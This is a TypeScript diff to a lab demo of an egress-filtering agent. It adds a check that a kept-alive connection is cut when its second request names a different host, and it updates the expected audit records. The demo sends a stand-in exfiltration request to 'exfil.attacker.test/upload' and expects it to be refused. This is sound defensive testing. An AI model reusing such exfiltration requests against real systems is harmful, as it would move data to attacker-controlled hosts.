@@ -1,7 +1,7 @@
 import type { AuditRecord } from '../core/audit.ts';
 import { pollUntil, type TeardownHost } from '../lab/netns.ts';
 import { withTeardown } from '../lab/teardown.ts';
-import { APP_UID, curlFromPod, curlShown, digFromPod, digShown, udpFromPod, type CurlResult } from './pod-app.ts';
+import { APP_UID, curlFromPod, curlShown, digFromPod, digShown, keepAliveFromPod, keepAliveShown, udpFromPod, type CurlResult } from './pod-app.ts';
 import { ADMIN_URL, AGENT_UID, API_HOST, agentArgs, createDemoLab, installInit, readAuditRecords, startPodAgent } from './pod-lab.ts';
 import { egressctl, heading, indent, reportSurprises, say, showAuditRecords, showInFull, showResult } from './present.ts';
 
@@ -17,8 +17,11 @@ export interface TransparentDemoOptions {
   netnsPrefix: string;
 }
 
-/** What leaves an audit record: both allowed requests, the denied TLS host, the denied port, the denied DNS query, the request to the VIP. */
-const EXPECTED_RECORDS = 6;
+/**
+ * What leaves an audit record: both allowed requests, the denied TLS host, the denied port, the
+ * kept-alive connection cut and curl's retry of its second request, the denied DNS query, the request to the VIP.
+ */
+const EXPECTED_RECORDS = 8;
 /** Istio's auto-allocated virtual IPs (docs/dns.md): the agent's own answer, not any server's. */
 const VIP_RANGE = /^240\.240\.\d+\.\d+$/;
 
@@ -78,6 +81,14 @@ async function run(td: TeardownHost, options: TransparentDemoOptions): Promise<n
   await request('GET http://api.example.test/v1/plain     (allowed: ServiceEntry demo-api, port 80)', 'http://api.example.test/v1/plain', httpStatus(200));
   await request('GET https://exfil.attacker.test/upload   (no ServiceEntry: the TLS handshake is refused)', 'https://exfil.attacker.test/upload', curlExit(35, 'TLS alert'));
   await request('GET http://api.example.test:8080/        (host allowed, port not: 403 that explains)', 'http://api.example.test:8080/', httpStatus(403));
+  const plainUrl = 'http://api.example.test/v1/plain';
+  const [sameHost, otherHost] = await keepAliveFromPod(lab, plainUrl, internetIp, 'neighbour.example.test');
+  showResult(
+    `Two requests on one kept-alive connection, the second for another site behind the same address   (cut before it leaves)\n  $ ${keepAliveShown(plainUrl, internetIp, 'neighbour.example.test')}`,
+    `first: ${describe(sameHost!)}; second: ${describe(otherHost!)}\n` +
+      '     (the agent reset the kept-alive connection before the second request left; curl retried it on a new connection, which the agent decided on its own: 403)',
+  );
+  if (sameHost?.status !== 200 || otherHost?.status !== 403) surprises.push(`kept-alive connection: got first ${describe(sameHost!)}, second ${describe(otherHost!)}; expected 200, then 403`);
   const udp = await udpFromPod(lab, internetIp, 443);
   showResult(`QUIC (UDP) to ${internetIp}:443, what HTTP/3 tries first   (rejected by the rules: clients fall back to TCP)`, udp.outcome === 'error' ? `rejected at once: ${udp.code}` : udp.detail);
   if (udp.outcome !== 'error') surprises.push(`UDP to 443: ${udp.outcome} (${udp.detail}), expected a rejection`);
@@ -115,6 +126,9 @@ async function run(td: TeardownHost, options: TransparentDemoOptions): Promise<n
 
   heading("8. The audit records: one per connection or refused DNS query, JSON lines in the agent's --audit-log (here as a table)");
   showAuditRecords(records, { label: 'The denied TLS connection', match: (r) => r.decision === 'deny' && r.protocol === 'tls' });
+  const cut = records.find((r) => r.reason === 'host_mismatch');
+  if (cut?.decision !== 'deny' || !cut.error?.startsWith('request 2 names host "neighbour.example.test"'))
+    surprises.push(`the kept-alive connection's record: expected a deny for host_mismatch on request 2, got ${JSON.stringify(cut ?? null)}`);
   const dnsDenial = records.find((r) => r.protocol === 'dns');
   showInFull('The denied DNS query', dnsDenial);
   if (dnsDenial?.decision !== 'deny' || dnsDenial.host !== 'exfil.attacker.test' || dnsDenial.listener !== 'dns' || dnsDenial.host_source !== 'dns')
